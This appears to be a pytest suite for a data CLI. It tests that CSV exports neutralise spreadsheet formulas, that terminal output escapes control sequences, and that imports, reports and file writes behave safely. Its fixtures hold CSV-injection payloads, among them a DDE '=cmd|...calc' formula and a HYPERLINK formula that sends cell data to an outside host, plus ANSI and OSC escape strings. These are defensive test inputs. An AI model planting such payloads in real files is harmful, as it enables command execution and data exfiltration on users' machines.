"""The data commands' files and terminal output are safe: spreadsheets, terminals, links, umask.

Issue 20's findings 5, 8, 14 and 15 for the data commands, over real HTTP
against the emulator, and the command line's one atomic writer.
"""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from helpers import cli_args as _conn
from helpers import read_csv as _rows
from helpers import run_cli as _run

from scale_query import Client, Query
from scale_query.cli._atomic import write_atomic
from scale_query.cli.data._text_tables import write_table
from scale_query.cli.data._writers import neutralise, restore
from scale_query.language._syntax_error import excerpt, for_terminal

pytest.importorskip("uvicorn")
from scale_query.emulator import Emulator

HOSTILE = [
    '=cmd|"/c calc"!A1',
    '=HYPERLINK("http://x.example/?q="&A1,"click")',
    "+1+1",
    "@SUM(1)",
    "-2+3",
    "\t=1",
    "'=1",
    "ends with a bare CR\r",
    "a\rb",
    "-12.50",
]


def _hostile_contacts(client: Client) -> list[str]:
    results = client.put("contact", [{"id": 0, "data": {"Ville": v}} for v in HOSTILE])
    return [r.id for r in results]


# finding 5: CSV safe to open in a spreadsheet, and read back as written ---------------


def test_neutralise_and_restore_are_inverse() -> None:
    for value in [*HOSTILE, "", "'", "''", "''=", "O'Neil", "Dupont", "-", "-x", "'-3"]:
        assert restore(neutralise(value)) == value
        assert neutralise(value)[:1] not in tuple("=+-@\t\r") or value == "-12.50"


def test_csv_export_quotes_a_bare_cr_and_neutralises_formulas(
    emu: Emulator, client: Client, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    ids = _hostile_contacts(client)
    where = f"id_contact $in [{', '.join(ids)}]"
    target = tmp_path / "out.csv"
    code, _, err = _run(
        capsys, "export", "contact", *_conn(emu), "--where", where, "--fields", "Ville",
        "--sort", "id_contact", "-o", str(target),
    )  # fmt: skip
    assert code == 0, err
    cells = [row["Ville"] for row in _rows(target)]
    assert len(cells) == len(HOSTILE)  # a bare \r split no row
    assert cells == [neutralise(v) for v in HOSTILE]
    assert cells[0] == "'" + HOSTILE[0] and cells[2] == "'+1+1" and cells[-1] == "-12.50"
    assert cells[7] == "ends with a bare CR\r"  # quoted, read back whole

    raw = tmp_path / "raw.csv"
    code, _, _ = _run(
        capsys, "export", "contact", *_conn(emu), "--where", where, "--fields", "Ville",
        "--sort", "id_contact", "--raw", "-o", str(raw),
    )  # fmt: skip
    assert code == 0 and [row["Ville"] for row in _rows(raw)] == HOSTILE

    # The neutralised file imports back to the very values (import takes the ' off).
    code, _, err = _run(capsys, "import", "contact", str(target), *_conn(emu), "--quiet")
    assert code == 0, err
    stored = {r.id: r.data["Ville"] for r in client.iter(Query("contact").where(where))}
    assert [stored[i] for i in ids] == HOSTILE


# finding 5: the terminal is never driven by a value, a field name or a filter ------------


def test_for_terminal_escapes_every_control_in_linear_time() -> None:
    hostile = "a\x1b]0;pwned\x07b\x9b2Jc\u202eabc\u2066d\x00\x7f"
    shown = for_terminal(hostile)
    assert shown == "a\\x1b]0;pwned\\x07b\\x9b2Jc\\u202eabc\\u2066d\\x00\\x7f"
    assert all(c.isprintable() for c in shown)
    assert for_terminal("one\ntwo\r", newlines=True) == "one\ntwo\\x0d"
    assert for_terminal("\x1b" * 100_000) == "\\x1b" * 100_000


def test_excerpt_escapes_and_keeps_the_caret_under_the_fault() -> None:
    shown, caret = excerpt("N\x1b[2Jm $ge 1", 7, 3)
    assert shown == "N\\x1b[2Jm $ge 1"
    assert shown[caret.index("^") :].startswith("$ge") and caret.count("^") == 3


def test_table_and_export_table_escape_control_characters(
    emu: Emulator, client: Client, capsys: pytest.CaptureFixture[str]
) -> None:
    out = io.StringIO()
    write_table(["na\x1bme"], [["\x1b[31mred\x07"]], out)
    assert "\x1b" not in out.getvalue() and "\\x1b[31mred\\x07" in out.getvalue()

    (rid,) = client.put("contact", [{"id": 0, "data": {"Ville": "\x1b]0;owned\x07\u202eX"}}])
    code, stdout, _ = _run(
        capsys, "export", "contact", *_conn(emu), "--where", f"id_contact $eq {rid.id}",
        "--fields", "Ville", "--format", "table",
    )  # fmt: skip
    assert code == 0
    assert "\\x1b]0;owned\\x07\\u202eX" in stdout
    assert not any(c in stdout for c in "\x1b\x07\u202e")


@pytest.mark.parametrize("fmt", ["jsonl", "json"])
def test_json_exports_escape_controls_and_decode_to_the_same_values(
    emu: Emulator, client: Client, capsys: pytest.CaptureFixture[str], fmt: str
) -> None:
    value = "a\x1b[2J\x7f\x9b\u202e\u2028z"
    (made,) = client.put("contact", [{"id": 0, "data": {"Ville": value}}])
    code, out, _ = _run(
        capsys, "export", "contact", *_conn(emu), "--where", f"id_contact $eq {made.id}",
        "--fields", "Ville", "--format", fmt, "--quiet",
    )  # fmt: skip
    assert code == 0
    assert not any(c in out for c in "\x1b\x7f\x9b\u202e\u2028")
    rows = json.loads(out) if fmt == "json" else [json.loads(line) for line in out.splitlines()]
    assert rows[0]["Ville"] == value


def test_a_filter_with_control_characters_is_shown_escaped(
    emu: Emulator, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = _run(capsys, "export", "contact", *_conn(emu), "--where", 'Nom\x1b[2J $ge "x"')
    assert code == 2 and "\x1b" not in err and "\\x1b[2J" in err


def test_check_shows_a_filter_file_with_control_characters_escaped(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = tmp_path / "evil.filter"
    path.write_text('Nom\x1b]0;owned\x07 $ge "\u202ex"\n', encoding="utf-8")
    code, out, err = _run(capsys, "check", str(path))
    assert code == 1
    assert "\\x1b]0;owned\\x07" in out
    assert not any(c in out + err for c in "\x1b\x07\u202e")


def test_schema_and_objects_escape_hostile_field_names_and_values(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from scale_query.emulator import serve

    for name in ("SCALE_TOKEN", "SCALE_INSTANCE", "SCALE_BASE_URL"):
        monkeypatch.delenv(name, raising=False)
    evil = "Nom\x1b]0;owned\x07\x9b2J\u202e"
    mart = {
        "objects": {
            "client": {
                "fields": {evil: {"attribs": {"type": "text"}}},
                "records": [{"id": 5, "data": {evil: "Zo\x1b[31mé"}}],
            }
        },
        "profiles": [{"name": "app", "token": "s3cret-token"}],
    }
    with serve(datamart=mart, instance="acme") as emu:
        conn = ["--token", "s3cret-token", "--instance", "acme", "--base-url", emu.base_url]
        code, table, _ = _run(capsys, "schema", "client", *conn)
        assert code == 0 and "Nom\\x1b]0;owned\\x07\\x9b2J\\u202e" in table
        code, text, _ = _run(capsys, "schema", "client", "--json", *conn)
        assert code == 0 and json.loads(text)[evil]["attribs"]["type"] == "text"
        code, shown, _ = _run(
            capsys, "export", "client", *conn, "--format", "table", "--fields", evil
        )
        assert code == 0 and "Zo\\x1b[31mé" in shown
    for out in (table, text, shown):
        assert not any(c in out for c in "\x1b\x07\x9b\u202e")


# finding 8: the dry run checks links and rights as the real run does ---------------------


def test_dry_run_refuses_a_link_typo_and_a_token_that_writes_nothing(
    emu: Emulator, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = tmp_path / "orders.csv"
    path.write_text("id,Reference,link.contakt\n0,CMD-A,1\n0,CMD-B,2\n0,CMD-C,\n", encoding="utf-8")
    for extra in (["--dry-run"], []):
        code, _, err = _run(capsys, "import", "orders", str(path), *_conn(emu), *extra)
        assert code == 1, err
        assert f"{path}:2: 'orders' has no link to 'contakt' (did you mean 'link.contact'?)" in err
        assert "3 of 3 records are not valid; nothing was sent" in err
    path.write_text("id,link.contact\n5,4242\n0,\n", encoding="utf-8")
    for extra in (["--dry-run"], []):
        code, _, err = _run(
            capsys, "import", "orders", str(path), *_conn(emu, "readonly-token"), *extra
        )
        assert code == 1, err
        assert "the token may write no field of 'orders'" in err
    assert emu.request_count("POST", "put_objects") == 0


# finding 14: the export's stop message counts exactly ------------------------------------


def test_a_stop_right_after_a_page_is_written_is_counted_with_that_page(
    emu: Emulator,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from scale_query.cli.data import _writers

    write = _writers._Csv.write
    pages = []

    def write_then_ctrl_c(self: _writers._Csv, page: list[object]) -> None:
        write(self, page)  # type: ignore[arg-type]
        pages.append(len(page))
        if len(pages) == 2:
            signal.raise_signal(signal.SIGINT)  # lands right after the page is written

    monkeypatch.setattr(_writers._Csv, "write", write_then_ctrl_c)
    target = tmp_path / "part.csv"
    code, _, err = _run(capsys, "export", "contact", *_conn(emu), "-o", str(target))
    assert code == 130
    assert len(_rows(target)) == sum(pages) == 1000
    assert f"{target} holds the 1,000 whole records written before the stop" in err


def test_a_stop_while_a_batch_is_reported_waits_for_its_last_record(
    emu: Emulator,
    client: Client,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # The signal lands after the first fate of the first batch is written and
    # before the second: the report still holds both (the server took both).
    from scale_query.cli.data import _import_files

    add = _import_files.Report.add
    signalled = []

    def add_with_a_stop_in_the_middle(self: _import_files.Report, outcomes: object) -> None:
        outcomes = list(outcomes)  # type: ignore[call-overload]
        add(self, outcomes[:1])
        if outcomes and not signalled:
            signalled.append(True)
            signal.raise_signal(signal.SIGINT)
        add(self, outcomes[1:])

    monkeypatch.setattr(_import_files.Report, "add", add_with_a_stop_in_the_middle)
    path = tmp_path / "new.csv"
    path.write_text("id,Ville\n" + "".join(f",midbatch{i}\n" for i in range(4)), encoding="utf-8")
    report = tmp_path / "report.csv"
    code, _, err = _run(
        capsys, "import", "contact", str(path), *_conn(emu),
        "--batch-size", "2", "--report", str(report),
    )  # fmt: skip
    assert code == 130, err
    fates = [(row["line"], row["status"]) for row in _rows(report)]
    assert fates == [("2", "ok"), ("3", "ok"), ("4", "not-sent"), ("5", "not-sent")]
    stored = {r.data["Ville"] for r in client.iter(Query("contact").where('Ville $like "mid*"'))}
    assert stored == {"midbatch0", "midbatch1"}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["new.csv", "report.csv"]


def test_a_bad_setting_is_named_as_the_user_gave_it_never_shown(
    emu: Emulator, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # The data commands read their settings with the client's one reader,
    # which names the flag or the variable the bad value came from.
    where = ["--instance", emu.instance, "--base-url", emu.base_url]
    code, _, err = _run(capsys, "objects", "--token", "s3cret tok", *where)
    assert code == 2 and "--token: the API token holds a space at position 7" in err
    monkeypatch.setenv("SCALE_TOKEN", "s3cret\ttok")
    code, _, err = _run(capsys, "objects", *where)
    assert code == 2 and "SCALE_TOKEN: the API token holds a control character" in err
    assert "s3cret" not in err
    monkeypatch.delenv("SCALE_TOKEN")
    code, _, err = _run(
        capsys, "objects", "--token", "t", "--instance", "x", "--base-url", "ftp://h/"
    )
    assert code == 2 and "--base-url must be https://" in err
    code, _, err = _run(capsys, "objects", "--token", "t")
    assert code == 2 and "no instance id: pass --instance, set SCALE_INSTANCE, or try --demo" in err


# issue 19: exit status 3 for a network or disk failure ----------------------------------


@pytest.mark.slow  # the client's retries of a refused connection, three times
def test_a_network_failure_exits_3_and_a_usage_mistake_2(
    emu: Emulator, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    closed = ["--token", "t", "--instance", "demo", "--base-url", "http://127.0.0.1:9/v1/datamart"]
    for argv in (["objects"], ["schema", "contact"], ["export", "contact"]):
        code, _, err = _run(capsys, *argv, *closed)
        assert code == 3, err
        assert "cannot reach 127.0.0.1:9" in err
    code, _, _ = _run(capsys, "export", "nosuchobject", *_conn(emu))
    assert code == 2
    code, _, err = _run(capsys, "import", "contact", str(tmp_path / "missing.csv"), *_conn(emu))
    assert code == 2 and "missing.csv: cannot read" in err


# findings 15 and deliver 7: one atomic writer, hard links, no umask, no stale files ------


def test_no_writer_changes_the_umask(
    emu: Emulator,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    old = os.umask(0o027)
    try:

        def forbidden(mask: int) -> int:
            raise AssertionError("os.umask called: not thread-safe")

        monkeypatch.setattr(os, "umask", forbidden)
        write_atomic(str(tmp_path / "a.filter"), "a $eq 1\n")
        target = tmp_path / "out.csv"
        code, _, err = _run(
            capsys, "export", "contact", *_conn(emu), "--limit", "3", "-o", str(target)
        )
        assert code == 0, err
        monkeypatch.undo()
    finally:
        os.umask(old)
    assert (tmp_path / "a.filter").stat().st_mode & 0o777 == 0o640
    assert target.stat().st_mode & 0o777 == 0o640


def test_a_hard_linked_file_keeps_its_links(tmp_path: Path) -> None:
    first, second = tmp_path / "a.filter", tmp_path / "b.filter"
    first.write_text("a  $eq 1\n")
    os.link(first, second)
    write_atomic(str(first), "a $eq 1\n")
    assert second.read_text() == "a $eq 1\n" and os.path.samefile(first, second)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.filter", "b.filter"]
    # fmt writes through the same helper.
    first.write_text("a  $eq 2\n")
    done = subprocess.run(
        [sys.executable, "-m", "scale_query.cli", "fmt", "a.filter"],
        cwd=tmp_path, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert second.read_text() == "a $eq 2\n" and second.stat().st_nlink == 2


@pytest.mark.slow  # two exports in subprocesses
def test_a_killed_export_leaves_no_temporary_file_after_the_next_run(
    emu: Emulator, tmp_path: Path
) -> None:
    target = tmp_path / "out.csv"
    foreign = tmp_path / ".out.csv.abc123.tmp"  # someone else's: never touched
    foreign.write_text("not ours\n")
    script = """
import os, signal, sys
from scale_query.cli import main
from scale_query.cli.data import _progress
def advance_then_die(self, count):
    os.kill(os.getpid(), signal.SIGKILL)
_progress.Progress.advance = advance_then_die
sys.exit(main(sys.argv[1:]))
"""
    argv = ["export", "contact", *_conn(emu), "-o", str(target)]
    done = subprocess.run([sys.executable, "-c", script, *argv], capture_output=True, timeout=120)
    assert done.returncode == -signal.SIGKILL
    left = sorted(p.name for p in tmp_path.iterdir())
    assert len(left) == 2 and ".out.csv.abc123.tmp" in left  # the killed one's and the foreign
    done = subprocess.run(
        [sys.executable, "-m", "scale_query.cli", *argv, "--limit", "2"],
        capture_output=True, timeout=120,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == [".out.csv.abc123.tmp", "out.csv"]


# first-time user: --where @file and --sort -Nom ---------------------------------------------


def test_where_reads_a_saved_filter_file_and_sort_takes_a_dash(
    emu: Emulator, client: Client, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    saved = tmp_path / "be.filter"
    saved.write_text('# object: contact\n# Belgians\nPays $eq "BE"\n  $and Nom $like "W*"\n')
    code, out, err = _run(
        capsys, "export", "contact", *_conn(emu), "--where", f"@{saved}",
        "--fields", "Nom", "--sort", "-Nom", "--limit", "5", "--quiet",
    )  # fmt: skip
    assert code == 0, err
    names = [row["Nom"] for row in csv.DictReader(io.StringIO(out))]
    assert len(names) == 5 and names == sorted(names, reverse=True)
    assert all(name.startswith("W") for name in names)

    saved.write_text('# a comment\nPays $eq "BE"\n  $and Nom $lik "W*"\n')
    code, _, err = _run(capsys, "export", "contact", *_conn(emu), "--where", f"@{saved}")
    assert code == 2 and f"{saved}:3:" in err and "$lik" in err
    saved.write_text('# object: orders\nStatut $eq "x"\n')
    code, _, err = _run(capsys, "export", "contact", *_conn(emu), "--where", f"@{saved}")
    assert code == 2 and "the filter is for 'orders'" in err


# deliver 3: --skip-invalid, --rejects, a report on every path, exact counts ---------------


def _bad_and_good(tmp_path: Path) -> Path:
    path = tmp_path / "new.csv"
    path.write_text(
        "id,Nom,DateNaissance\n"
        "0,Skip1,1990-06-12\n"
        "0,Skip2,12/06/1990\n"
        "0,'=Skip3,1985-01-31\n"
        "0,Skip4,1985-13-31\n"
        "0,Skip5\n",
        encoding="utf-8",
    )
    return path


def test_skip_invalid_loads_the_valid_rows_and_rejects_the_others(
    emu: Emulator, client: Client, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = _bad_and_good(tmp_path)
    report, rejects = tmp_path / "report.csv", tmp_path / "rejects.csv"
    code, _, err = _run(
        capsys, "import", "contact", str(path), *_conn(emu), "--skip-invalid",
        "--rejects", str(rejects), "--report", str(report),
    )  # fmt: skip
    assert code == 1, err  # not every record went in
    assert "2 of 5 records written in" in err and "2 created, 0 updated, 3 invalid" in err
    stored = {r.data["Nom"] for r in client.iter(Query("contact").where('Nom $like "*Skip*"'))}
    assert stored == {"Skip1", "=Skip3"}
    fates = [(int(row["line"]), row["status"]) for row in _rows(report)]  # in line order
    assert fates == [(2, "ok"), (3, "invalid"), (4, "ok"), (5, "invalid"), (6, "invalid")]
    rejected = list(csv.reader(rejects.open(encoding="utf-8", newline="")))
    assert rejected[0] == ["id", "Nom", "DateNaissance", "rejected.line", "rejected.reason"]
    assert [row[:3] for row in rejected[1:3]] == [
        ["0", "Skip2", "12/06/1990"],
        ["0", "Skip4", "1985-13-31"],
    ]
    assert [row[-2] for row in rejected[1:]] == ["3", "5", "6"]
    assert "is not a date" in rejected[1][-1] and rejected[3][:2] == ["0", "Skip5"]

    # Fixed, the rejects file imports as it is (its two added columns are ignored).
    rejects.write_text(
        "id,Nom,DateNaissance,rejected.line,rejected.reason\n0,Skip2,1990-06-12,3,was bad\n",
        encoding="utf-8",
    )
    code, _, err = _run(capsys, "import", "contact", str(rejects), *_conn(emu), "--quiet")
    assert code == 0, err


def test_a_refused_file_and_a_dry_run_still_write_the_report(
    emu: Emulator, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = _bad_and_good(tmp_path)
    report, rejects = tmp_path / "report.jsonl", tmp_path / "rejects.csv"
    for extra in ([], ["--dry-run"], ["--dry-run", "--skip-invalid"]):
        code, _, err = _run(
            capsys, "import", "contact", str(path), *_conn(emu), "--report", str(report),
            "--rejects", str(rejects), *extra,
        )  # fmt: skip
        assert code == 1, err
        rows = [json.loads(line) for line in report.read_text(encoding="utf-8").splitlines()]
        assert [(r["line"], r["status"]) for r in rows] == [
            (2, "not-sent"), (3, "invalid"), (4, "not-sent"), (5, "invalid"), (6, "invalid")
        ]  # fmt: skip
        assert "not a date" in rows[1]["error"]
        assert len(_rows(rejects)) == 3
    assert emu.request_count("POST", "put_objects") == 0
    assert (
        "3 of 5 records are not valid; nothing was sent"
        in _run(capsys, "import", "contact", str(path), *_conn(emu))[2]
    )


def test_jsonl_rejects_keep_the_rows_and_numbers_keep_their_digits(
    emu: Emulator, client: Client, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = tmp_path / "orders.jsonl"
    path.write_text(
        '{"id": 0, "Reference": 9007199254740993.0, "Montant": 1}\n'
        '{"id": 0, "Reference": "BIG-2", "Montant": "12,50"}\n'
        "not json\n",
        encoding="utf-8",
    )
    rejects = tmp_path / "rejects.jsonl"
    code, _, err = _run(
        capsys, "import", "orders", str(path), *_conn(emu), "--skip-invalid",
        "--rejects", str(rejects), "--quiet",
    )  # fmt: skip
    assert code == 1, err
    kept = [json.loads(line) for line in rejects.read_text(encoding="utf-8").splitlines()]
    assert kept[0]["Reference"] == "BIG-2" and kept[0]["rejected.line"] == 2
    assert kept[1]["rejected.line"] == 3 and "not valid JSON" in kept[1]["rejected.reason"]
    (big,) = client.iter(Query("orders").where('Reference $like "9007*"'))
    assert big.data["Reference"] == "9007199254740993"  # not rounded through a float


def test_rejects_and_report_csv_quote_a_bare_cr_and_neutralise() -> None:
    from scale_query.cli.data._import_files import Rejects
    from scale_query.cli.data._readers import Row

    out = io.StringIO()
    rejects = Rejects(out, "csv")
    rejects.add(Row(2, {"id": "0", "Nom": "a\rb"}, header=("id", "Nom")), ["=bad"])
    rejects.add(Row(3, {"id": "0", "Nom": "@x"}, header=("id", "Nom")), ["too long"])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [
        ["id", "Nom", "rejected.line", "rejected.reason"],
        ["0", "a\rb", "2", "'=bad"],
        ["0", "'@x", "3", "too long"],
    ]


@pytest.mark.parametrize("fmt", ["text", "json", "github", "sarif"])
def test_every_check_format_escapes_control_characters(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, fmt: str
) -> None:
    path = tmp_path / "evil\x1b[2J.filter"
    path.write_text('Nom\x1b]0;owned\x07\x9b $ge "\u202ex"\n', encoding="utf-8")
    code, out, _ = _run(capsys, "check", "--format", fmt, str(path))
    assert code == 1
    assert not any(c in out for c in "\x1b\x07\x9b\u202e")
    if fmt == "json":  # escaped as JSON: the very path decodes back
        assert json.loads(out)[0]["path"] == str(path)


def test_a_file_that_is_not_csv_is_refused_with_a_report(
    emu: Emulator, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    path = tmp_path / "broken.csv"
    path.write_text('id,Nom\n0,Fine\n0,"unterminated\n', encoding="utf-8")
    report = tmp_path / "report.csv"
    code, _, err = _run(
        capsys, "import", "contact", str(path), *_conn(emu), "--report", str(report)
    )
    assert code == 2 and "line 3: not readable as CSV" in err
    rows = _rows(report)
    assert [(r["line"], r["status"]) for r in rows] == [("2", "not-sent")]
    assert "the file was refused" in rows[0]["error"]
    assert emu.request_count("POST", "put_objects") == 0
